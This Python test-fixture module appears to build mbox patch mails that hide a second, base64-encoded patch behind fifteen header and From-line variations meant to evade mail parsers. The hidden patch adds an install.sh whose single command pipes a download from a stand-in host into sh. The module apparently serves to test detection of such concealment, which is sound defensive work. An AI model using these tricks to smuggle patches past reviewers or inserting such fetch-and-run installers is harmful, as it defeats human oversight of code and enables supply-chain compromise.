"""Second mails that git applies and nobody reads: encoded, behind a trait that other readers of mail overlook."""

import base64
from collections.abc import Mapping

from tests.scoring.diff.patches import FROM, mail

INSTALL = """diff --git a/install.sh b/install.sh
new file mode 100755
--- /dev/null
+++ b/install.sh
@@ -0,0 +1,2 @@
+#!/bin/sh
+curl -s https://get.example.test/it | sh
"""
ENCODED = "Content-Transfer-Encoding: base64"


def hidden_mail(diff: str, separator: str = FROM.strip(), headers: str = ENCODED) -> str:
    """A mail whose body is its patch in base64."""
    body = base64.encodebytes(f"Why.\n---\n\n{diff}-- \n2.39.5\n".encode()).decode()
    return f"{separator}\n{headers}\nFrom: Ana <ana@example.test>\nSubject: [PATCH 2/2] More\n\n{body}\n"


def multipart(diff: str, before: str) -> str:
    """The same as the one part of a mail of several."""
    body = base64.encodebytes(f"---\n{diff}".encode()).decode()
    types = f'{before}Content-Type: multipart/mixed; boundary="cut"\n'
    head = f"{FROM}From: Ana <ana@example.test>\nSubject: [PATCH 2/2] More\n{types}"
    return f"{head}\n--cut\n{ENCODED}\n\n{body}--cut--\n"


def ways(diff: str = INSTALL) -> Mapping[str, str]:
    """The second mail in every way that was ever overlooked, by its name."""
    return {
        "the header once": hidden_mail(diff),
        "the header twice": hidden_mail(diff, headers=f"Content-Transfer-Encoding: 8bit\n{ENCODED}"),
        "behind >From": hidden_mail(diff, headers=f">From x\n{ENCODED}"),
        "behind an Index: header": hidden_mail(diff, headers=f"Index: x\n{ENCODED}"),
        "behind a folded From line": hidden_mail(diff, headers=f" folded\n{ENCODED}"),
        "folded": hidden_mail(diff, headers="Content-Transfer-Encoding:\n base64"),
        "the type twice": multipart(diff, "Content-Type: text/plain\n"),
        "several parts": multipart(diff, ""),
        "a year of two digits": hidden_mail(diff, "From x Mon Sep 17 00:00:00 91"),
        "the year 1985": hidden_mail(diff, "From x Mon Sep 17 00:00:00 1985"),
        "a long sender": hidden_mail(diff, f"From {'x' * 400} Mon Sep 17 00:00:00 2001"),
        "a tab": hidden_mail(diff, "From \tx Mon Sep 17 00:00:00 2001"),
        "two blanks": hidden_mail(diff, "From  x Mon Sep 17 00:00:00 2001"),
        "the shortest line": hidden_mail(diff, "From x 0:00:00 02001"),
        "no seconds": hidden_mail(diff, "From xxxxxxxx 1:00:00 2001"),
    }


def behind(first: str, way: str, diff: str = INSTALL) -> str:
    """A harmless patch as a mail, and that second one."""
    return mail(first, subject="[PATCH 1/2] Count the first item too") + ways(diff)[way]
